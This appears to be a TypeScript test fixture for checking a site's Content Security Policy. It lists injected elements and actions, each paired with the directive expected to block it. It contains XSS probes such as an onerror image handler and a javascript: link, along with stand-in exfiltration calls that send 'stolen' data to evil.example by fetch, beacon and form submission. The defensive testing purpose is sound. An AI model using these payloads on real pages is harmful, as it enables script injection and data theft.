interface ElementAttack {
  directive: string
  tag: string
  properties: object
}

const EVIL = 'https://evil.example/'

/** Elements that an attacker might get into the page, and the directive that stops each. */
export const ELEMENT_ATTACKS: Record<string, ElementAttack> = {
  'an inline script': {
    directive: 'script-src-elem',
    tag: 'script',
    properties: { text: 'alert(1)' },
  },
  'a script from elsewhere': {
    directive: 'script-src-elem',
    tag: 'script',
    properties: { src: EVIL },
  },
  'an event handler': {
    directive: 'script-src-attr',
    tag: 'p',
    properties: { innerHTML: '<img src="data:," onerror="alert(1)">' },
  },
  'a style sheet': {
    directive: 'style-src-elem',
    tag: 'style',
    properties: { textContent: 'body { display: none }' },
  },
  'a style attribute': {
    directive: 'style-src-attr',
    tag: 'p',
    properties: { innerHTML: '<b style="position: fixed">' },
  },
  'a picture from elsewhere': { directive: 'img-src', tag: 'img', properties: { src: EVIL } },
  'a frame': { directive: 'frame-src', tag: 'iframe', properties: { src: EVIL } },
  'another base address': { directive: 'base-uri', tag: 'base', properties: { href: EVIL } },
  'a plugin': { directive: 'object-src', tag: 'object', properties: { data: EVIL } },
}

/** What injected code might do if it ran, in the page. */
export const ACTION_ATTACKS: Record<string, { directive: string; run: () => void }> = {
  'a javascript: link': {
    directive: 'script-src-elem',
    run: () => Object.assign(document.createElement('a'), { href: 'javascript:alert(1)' }).click(),
  },
  // Called by the timer, since what the test itself runs may use eval.
  eval: { directive: 'script-src', run: () => Reflect.apply(setTimeout, window, ['alert(1)']) },
  'a worker from a blob': {
    directive: 'worker-src',
    run: () => void new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  },
  'a fetch to elsewhere': {
    directive: 'connect-src',
    run: () => void fetch('https://evil.example/?stolen').catch(() => {}),
  },
  'a fetch from a rate host, but not of rates': {
    directive: 'connect-src',
    run: () => void fetch('https://cdn.jsdelivr.net/npm/jquery/package.json').catch(() => {}),
  },
  'a beacon': {
    directive: 'connect-src',
    run: () => void navigator.sendBeacon('https://evil.example/', 'stolen'),
  },
  'a form': {
    directive: 'form-action',
    run: () => {
      const form = Object.assign(document.createElement('form'), {
        action: 'https://evil.example/',
      })
      document.body.append(form)
      form.submit()
    },
  },
}
